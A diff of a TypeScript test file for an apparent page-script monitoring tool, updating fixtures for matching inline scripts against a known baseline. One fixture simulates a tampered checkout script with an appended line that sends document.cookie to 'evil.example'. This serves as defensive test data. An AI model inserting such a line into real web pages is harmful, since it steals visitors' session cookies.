@@ -6,7 +6,7 @@ import type { KnownScript } from '../../src/baseline.js';
 import { frameScope, matchAnonymous, scriptUrlIdentity, similarity, stripFragment } from '../../src/identity.js';
 
 function known(id: number, body: string, sha: string): KnownScript {
-  return { id, key: `inline:${sha}`, kind: 'inline', url: null, frameUrl: 'https://shop.example/', retired: false, missingStreak: 0, accepted: [sha], lastSha: sha, lastBody: body };
+  return { id, key: `inline:${sha}`, kind: 'inline', url: null, frameUrl: 'https://shop.example/', retired: false, missingStreak: 0, accepted: [sha], acceptedNormalized: [], lastSha: sha, lastBody: body };
 }
 
 describe('matchAnonymous', () => {
@@ -14,22 +14,22 @@ describe('matchAnonymous', () => {
   const b = known(2, 'window.dataLayer = [];\ndataLayer.push({ page: "checkout" });', 'bbb');
 
   it('matches identical content regardless of order', () => {
-    const matches = matchAnonymous([{ index: 0, sha256: 'bbb', body: b.lastBody! }, { index: 1, sha256: 'aaa', body: a.lastBody! }], [a, b]);
+    const matches = matchAnonymous([{ index: 0, sha256: 'bbb', normalized: 'n-bbb', body: b.lastBody! }, { index: 1, sha256: 'aaa', normalized: 'n-aaa', body: a.lastBody! }], [a, b]);
     assert.deepEqual([...matches.entries()].sort(), [[0, 2], [1, 1]]);
   });
 
   it('pairs a modified script with the one it most resembles', () => {
     const modified = 'window.dataLayer = [];\ndataLayer.push({ page: "checkout" });\nnew Image().src = "https://evil.example/?" + document.cookie;';
-    const matches = matchAnonymous([{ index: 0, sha256: 'aaa', body: a.lastBody! }, { index: 1, sha256: 'ccc', body: modified }], [a, b]);
+    const matches = matchAnonymous([{ index: 0, sha256: 'aaa', normalized: 'n-aaa', body: a.lastBody! }, { index: 1, sha256: 'ccc', normalized: 'n-ccc', body: modified }], [a, b]);
     assert.equal(matches.get(1), 2);
     assert.equal(matches.get(0), 1);
   });
 
   it('leaves a genuinely new script unmatched when nothing is free', () => {
     const matches = matchAnonymous([
-      { index: 0, sha256: 'aaa', body: a.lastBody! },
-      { index: 1, sha256: 'bbb', body: b.lastBody! },
-      { index: 2, sha256: 'ddd', body: 'totally different();' },
+      { index: 0, sha256: 'aaa', normalized: 'n-aaa', body: a.lastBody! },
+      { index: 1, sha256: 'bbb', normalized: 'n-bbb', body: b.lastBody! },
+      { index: 2, sha256: 'ddd', normalized: 'n-ddd', body: 'totally different();' },
     ], [a, b]);
     assert.equal(matches.has(2), false);
   });
